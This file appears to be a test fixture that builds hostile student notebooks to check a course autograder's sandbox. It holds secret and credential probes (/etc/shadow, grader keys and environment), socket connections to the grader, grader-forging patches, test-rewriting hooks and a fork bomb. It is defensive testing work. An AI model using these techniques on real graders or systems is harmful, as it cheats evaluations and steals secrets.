"""Hostile and broken LAB·1.1 submissions, built from the student notebook (course_tools.demo.filled_in), each
with the score and the reason the grader should give it on both paths (`course grade`, `nbgrader autograde`).
Used by tests/test_grader_isolation.py. One case per class of attack of issue 11, plus the broken inputs.

Most attacks start from the untouched stub (0/6): a forged pass would show as points. The few that start from
the solution check that the hostile part costs what it should and nothing more.
"""
from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from course_tools.demo import filled_in
from pallas_course.manifest import REPO_ROOT, manifest

LAB = "lab-1.1-first-kernels"
LAB_1_2 = "lab-1.2-tiled-matmul"
NAME = f"{LAB}.ipynb"
ADD_CALL = "    return pl.pallas_call(\n        add_kernel,"
SECRET_ENV = "COURSE_TEST_GRADER_SECRET"     # set in the grader's environment by the test
MARKER = "course-hostile-sleeper"            # in the command line of processes a notebook leaves behind

HANG_IN_KERNEL = '''
def add_kernel(x_ref, y_ref, o_ref):   # a kernel that never finishes: no interrupt reaches it
    forever = jax.lax.while_loop(lambda c: c >= 0, lambda c: (c + 1) % 7, x_ref[0, 0].astype(jnp.int32) * 0)
    o_ref[...] = x_ref[...] + y_ref[...] + forever.astype(o_ref.dtype) * 0
'''
# Everything a notebook might read, list or write outside its jail; each line printed ALLOWED or denied.
PROBE = f'''
import os, pathlib, glob
repo = pathlib.Path({str(REPO_ROOT)!r})
def probe(what, act):
    try:
        got = act()
        print(("ALLOWED" if got else "denied"), what, repr(got)[:200] if got else "(nothing there)")
    except Exception as e:
        print("denied", what, type(e).__name__)
probe("read solutions", lambda: (repo / "solutions" / "stage-1" / {NAME!r}).read_text())
probe("read key", lambda: (repo / "autograder" / "keys" / "tokamax_reading.yml").read_text())
probe("import checks", lambda: __import__("autograder.labs.lab_1_1"))
probe("read gradebook", lambda: (repo / "gradebook.db").read_bytes())
probe("read rubrics", lambda: [l for l in (repo / "course.yml").read_text().splitlines() if l.strip().startswith('- "1:')])
probe("list repo beyond the binds", lambda: sorted(set(os.listdir(repo)) - {{"course.yml", "pallas_course", ".venv"}}))
probe("list /root beyond Python", lambda: sorted(set(os.listdir("/root")) - {{".pyenv"}}))
probe("read shadow", lambda: open("/etc/shadow").read())
probe("grader env", lambda: os.environ[{SECRET_ENV!r}])
probe("host processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 3] or None)
probe("host sockets", lambda: [l for l in open("/proc/net/unix").read().splitlines()[1:] if "/" in l or "@" in l] or None)
probe("write repo", lambda: (repo / "autograder" / "pwned.py").write_text("x"))
probe("write var tmp", lambda: pathlib.Path("/var/tmp/course-hostile-pwned").write_text("x"))
print("uid", os.getuid())
'''
# Reach the grader or anything else over the network or a socket: the test listens on PORT and SOCKET.
NETWORK = '''
import socket, os
def probe(what, act):
    try:
        act()
        print("ALLOWED", what)
    except Exception as e:
        print("denied", what, type(e).__name__)
def tcp():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"forged")
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"forged", ("127.0.0.1", PORT))
    s.sendto(b"forged", ("10.0.2.2", PORT))
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect(SOCKET)
def forkserver():   # what `--jobs 2` workers listen on: abstract or pathname sockets in /proc/net/unix
    names = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:] if len(l.split()) > 7]
    for name in names:
        s = socket.socket(socket.AF_UNIX)
        s.connect(("\\0" + name[1:]) if name.startswith("@") else name)
    raise OSError(f"{len(names)} sockets")
probe("tcp to the grader", tcp)
probe("udp out", udp)
probe("unix socket", unix)
probe("worker sockets", forkserver)
'''
# Reshape the checks from inside: none of this reaches them, since they run outside the jail.
REWRITE_TESTS = '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n" if "lab_1_1" in l else l for l in lines])
import ast
class Forge(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(None)
ip.ast_transformers.append(Forge())
def clear(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", clear)
try:
    import autograder.labs.lab_1_1 as lab
    lab.ADD_SHAPES.clear(); lab.TRANSPOSE_CASES.clear()
except ImportError as e:
    print("no checks here:", e)
'''
# Structure of a real pallas_call for `add`, values from XLA: the one forgery a jail cannot stop (README).
FORGE_TEMPLATE = '''
import numpy as np
import jail_agent.calls as calls
real_invoke = calls.invoke
def honest(x, y):   # a genuine Pallas add, used only for the structure it traces to
    return pl.pallas_call(lambda a, b, o: o.__setitem__(Ellipsis, a[...] + b[...]),
                          out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
def forged(fn, args, kwargs, *, run, **options):
    if getattr(fn, "__name__", "") != "add":
        return real_invoke(fn, args, kwargs, run=run, **options)
    claim = real_invoke(honest, args, kwargs, run=False)["structure"]
    return {"structure": claim, "result": VALUES if run else None}
calls.invoke = forged
def add(x, y):
    return x + y
'''
FORGE_RIGHT = FORGE_TEMPLATE.replace("VALUES", "np.asarray(args[0]) + np.asarray(args[1])")
FORGE_WRONG = FORGE_TEMPLATE.replace("VALUES", "np.zeros_like(np.asarray(args[0]))")
# A pallas_call when traced, XLA when called: the grader runs the traced computation, so XLA never answers.
TWO_FACED = '''
def add(x, y):
    if isinstance(x, jax.core.Tracer):
        return pl.pallas_call(lambda a, b, o: o.__setitem__(Ellipsis, jnp.zeros_like(o)),
                              out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
    return x + y
'''
ARRAY_OBJECT = '''
class Expected:
    """An output that would hand back whatever it is compared with."""
    shape, dtype = (256, 256), np.float32
    def __array__(self, dtype=None, copy=None):
        import inspect
        for f in inspect.stack():
            for v in f.frame.f_locals.values():
                if isinstance(v, np.ndarray) and v.shape == self.shape:
                    return v
        return np.zeros(self.shape, np.float32)
import numpy as np
def add(x, y):
    return Expected()
'''
GARBLE_PROTOCOL = '''
import os
for fd in range(3, 12):
    try:
        os.write(fd, b"\\xff" * 64 + b"{not a frame")
    except OSError:
        pass
'''
PROCESSES = f'''
import os, subprocess, time
# a sleeper in a session of its own, meant to outlive the grading
subprocess.Popen(["/bin/sh", "-c", "exec -a {MARKER} sleep 600"], start_new_session=True)
# a bounded fork bomb: stops at the jail's process limit
kids = 0
try:
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        kids += 1
except OSError as e:
    print("fork refused after", kids, type(e).__name__)
'''
STARTUP_FILE = '''
import os, pathlib
for base in (os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython"), "/tmp/home/.ipython"):
    if not base:
        continue
    p = pathlib.Path(base) / "profile_default" / "startup" / "00-forge.py"
    try:
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("def add(x, y):\\n    return x + y\\n")
        print("planted", p)
    except OSError as e:
        print("could not plant", p, type(e).__name__)
'''
HUGE_OUTPUT = '''
import sys
for _ in range(300):
    sys.stdout.write("x" * 1_000_000)
raise ValueError("y" * 50_000_000)
'''


@dataclass(frozen=True)
class Hostile:
    student: str
    score: float
    reason: str                 # a regex the submission's error, or one of its test messages, must match
    what: str
    nbgrader: bool = True       # also graded by `nbgrader autograde` (not for files nbgrader cannot read)


def _with_cell(nb: NotebookNode, source: str, *, after: str = "setup", before: str | None = None) -> NotebookNode:
    """`nb` with a cell added after the cell `after` (or just before the cell `before`), by grade id."""
    nb = copy.deepcopy(nb)
    ids = [c.get("metadata", {}).get("nbgrader", {}).get("grade_id") for c in nb.cells]
    index = ids.index(before) if before else ids.index(after) + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    return nb


def _without(nb: NotebookNode, *grade_ids: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") not in grade_ids]
    return nb


def _tag_tests(nb: NotebookNode, tag: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    ids = {t.id for t in manifest().lab(LAB).tests}
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") in ids:
            cell.metadata.setdefault("tags", []).append(tag)
    return nb


def _stub() -> NotebookNode:
    return nbformat.read(REPO_ROOT / manifest().lab(LAB).notebook, as_version=4)


def build(root: Path | None, *, port: int = 9, socket_path: str = "/nonexistent") -> list[Hostile]:
    """Write every hostile submission under `root/<student>/<stage>/` (None: write nothing); return what each
    should get. `port` and `socket_path`: where the test listens for connections that must never come."""
    stage = manifest().stage.id
    solution = filled_in(LAB)
    stub = _stub()
    network = NETWORK.replace("PORT", str(port)).replace("SOCKET", repr(socket_path))
    cases: list[tuple[Hostile, NotebookNode | bytes]] = [
        (Hostile("ok-solution", 6, "^passed$", "the solution, graded beside the hostile ones"), solution),
        (Hostile("hang-in-kernel", 0, "did not stop when interrupted", "an infinite loop inside the Pallas kernel"),
         _with_cell(solution, HANG_IN_KERNEL, after="add_kernel")),
        (Hostile("hang-in-cell", 6, "^passed$", "`while True: pass` in a cell: interrupted, the rest runs"),
         _with_cell(solution, "while True:\n    pass")),
        (Hostile("crash-exit", 3, r"kernel exited \(exit 3\)", "os._exit(3) when transpose runs"),
         filled_in(LAB, {"transpose": ("    m, n = x.shape\n", "    m, n = x.shape\n    import os; os._exit(3)\n")})),
        (Hostile("crash-segfault", 0, "SIGSEGV", "a segfault (ctypes.string_at(0)) in a cell"),
         _with_cell(solution, "import ctypes\nctypes.string_at(0)")),
        (Hostile("memory-blowup", 0, "memory", "a cell fills 6 GB (shared memory included in the limit)"),
         # 64 MB at a time: page by page from Python, a loaded machine hit the 10 s cell limit before 2 GB
         _with_cell(solution, "import mmap\nm = mmap.mmap(-1, 6 << 30)\nchunk = b'\\1' * (64 << 20)\n"
                              "for i in range(0, 6 << 30, 64 << 20):\n    m[i:i + (64 << 20)] = chunk")),
        (Hostile("corrupt-truncated", 0, "could not read the notebook", "the .ipynb cut in half", nbgrader=False),
         nbformat.writes(solution).encode()[:4000]),
        (Hostile("corrupt-binary", 0, "could not read the notebook", "not JSON at all", nbgrader=False),
         bytes(range(256)) * 8),
        (Hostile("other-lab", 0, r"holds the cells of LAB·1\.2", "LAB·1.2's notebook under LAB·1.1's name"),
         filled_in(LAB_1_2)),
        (Hostile("deleted-cells", 1, "name 'transpose' is not defined",
                 "transpose and a hidden test deleted (add_f32 comes back where nbgrader puts it: before add)"),
         _without(solution, "transpose", "add_f32")),
        (Hostile("renamed", 3, "name 'add' is not defined", "add renamed my_add"),
         filled_in(LAB, {"add_kernel": ("def add_kernel", "def add_kernel_renamed")})),
        (Hostile("xla-bypass", 3, "launches no pallas_call", "add computes x + y with XLA"), filled_in(LAB, {})),
        (Hostile("probe-outside", 0, "not implemented yet", "reads solutions/, the key, the grader's environment, "
                 "other processes; writes the repository"), _with_cell(stub, PROBE)),
        (Hostile("network", 0, "not implemented yet", "TCP and UDP to the grader's host, a UNIX socket, the "
                 "workers' sockets"), _with_cell(stub, network)),
        (Hostile("rewrite-tests", 0, "not implemented yet|launches no pallas_call", "input and AST transformers that rewrite the test "
                 "cells, a post_run_cell hook that clears errors, the checks' case lists emptied"),
         _with_cell(stub, REWRITE_TESTS)),
        (Hostile("skip-execution", 0, "not implemented yet", "the test cells tagged skip-execution"),
         _tag_tests(stub, "skip-execution")),
        (Hostile("forge-right-values", 3, "^passed$", "the agent patched to claim a real pallas_call's structure "
                 "for values computed with XLA: the one forgery left (README)"), _with_cell(stub, FORGE_RIGHT, before="add_f32")),
        (Hostile("forge-wrong-values", 0, "differ by more than", "the agent patched to claim a pallas_call and "
                 "answer zeros"), _with_cell(stub, FORGE_WRONG, before="add_f32")),
        (Hostile("two-faced", 0, "differ by more than", "a pallas_call when traced, XLA when called"),
         _with_cell(stub, TWO_FACED, before="add_f32")),
        (Hostile("array-object", 0, "while being traced", "returns an object whose __array__ would hand back the "
                 "checker's expected array"), _with_cell(stub, ARRAY_OBJECT, before="add_f32")),
        (Hostile("garble-protocol", 0, "malformed|stopped", "writes junk into the agent's pipes"),
         _with_cell(stub, GARBLE_PROTOCOL)),
        (Hostile("processes", 0, "not implemented yet|kernel died", "a fork bomb (it may take its own notebook "
                 "down: XLA cannot start threads past the process limit) and a sleeper in a new session"),
         _with_cell(stub, PROCESSES)),
        (Hostile("startup-file", 0, "not implemented yet", "plants an IPython startup file defining add"),
         _with_cell(stub, STARTUP_FILE)),
        (Hostile("zz-stub-after-startup", 0, "not implemented yet", "graded after startup-file: its plant is gone"),
         stub),
        (Hostile("huge-output", 0, "not implemented yet", "300 MB of prints and a 50 MB exception message"),
         _with_cell(stub, HUGE_OUTPUT)),
    ]
    out = []
    for hostile, nb in cases:
        out.append(hostile)
        if root is None:
            continue
        path = root / hostile.student / stage / NAME
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, bytes):
            path.write_bytes(nb)
        else:
            nbformat.write(_fix(hostile.student, nb), path)
    return out


def _fix(student: str, nb: NotebookNode) -> NotebookNode:
    """Edits `filled_in` cannot express (they span cells)."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if student == "renamed" and "def add(x, y):" in cell.source:
            cell.source = cell.source.replace("def add(x, y):", "def my_add(x, y):").replace(
                "add_kernel,", "add_kernel_renamed,")
        if student == "xla-bypass" and ADD_CALL in cell.source:
            cell.source = cell.source.replace(ADD_CALL, "    return x + y\n" + ADD_CALL)
    return nb
